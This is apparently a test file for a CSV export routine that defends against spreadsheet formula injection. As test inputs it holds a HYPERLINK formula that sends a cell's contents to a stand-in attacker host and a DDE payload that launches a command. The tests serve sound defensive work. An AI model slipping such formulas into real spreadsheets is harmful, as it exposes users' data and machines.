"""CSV: what hostile cells become, and that nothing else changes."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sayso.export.table import as_csv, harmless

CALL = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\ufeff", "\u200b", "\x00"])
def test_text_that_begins_like_a_formula_gets_an_apostrophe(before: str, sign: str) -> None:
    assert harmless(f"{before}{sign}cmd|' /C calc'!A0") == f"'{before}{sign}cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["\tx", "\rx", "\nx"])
def test_text_that_begins_with_a_tab_or_a_line_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cut", [";", "; ", "\t", "\r", "\n", "\r\n"])
def test_what_another_cell_could_begin_with_gets_one_too(cut: str) -> None:
    assert str(harmless(f"Ada{cut}{CALL}")).startswith(f"Ada{cut.rstrip(' ')}'")


@pytest.mark.parametrize("cell", ["Ada Reed", "", "owns 5-6 shops = all", "a@b", "2016~", "../2019-03", "'=1", "“-”"])
def test_other_text_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize("number", [-1, 0, -0.5, 3.25])
def test_numbers_stay_numbers(number: float) -> None:
    assert harmless(number) is number
    assert list(as_csv([{"score": number}])) == ["score\n", f"{number}\n"]


def test_a_long_row_of_blanks_takes_no_longer_than_another() -> None:
    assert harmless("\n" * 100_000 + " " * 100_000) == "'" + "\n" * 100_000 + " " * 100_000


def test_a_cell_breaks_into_no_other_cell_or_row() -> None:
    hostile = ['",=1', "a\r=1", "a\n=1", '"', "a,b", "a\r\nb"]
    text = "".join(as_csv({"one": cell, "two": 2} for cell in hostile))

    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert [len(row) for row in rows] == [2] * 7
    assert [row[0] for row in rows[1:]] == [harmless(cell) for cell in hostile]


def test_a_line_s_end_of_either_kind_stands_between_quotation_marks() -> None:
    assert list(as_csv([{"words": "a\rb", "n": 1}]))[1] == '"a\rb",1\n'


def test_of_no_rows_there_is_no_line() -> None:
    assert list(as_csv([])) == []


@given(st.text(st.sampled_from("=+-@;\t\r\n '\"a1\ufeff,")))
def test_however_it_is_cut_no_part_begins_with_a_sign(text: str) -> None:
    safe = harmless(text)

    assert isinstance(safe, str)
    assert not [part for part in re.split(r"[;\t\r\n]", safe) if part.lstrip(" \ufeff")[:1] in set("=+-@")]
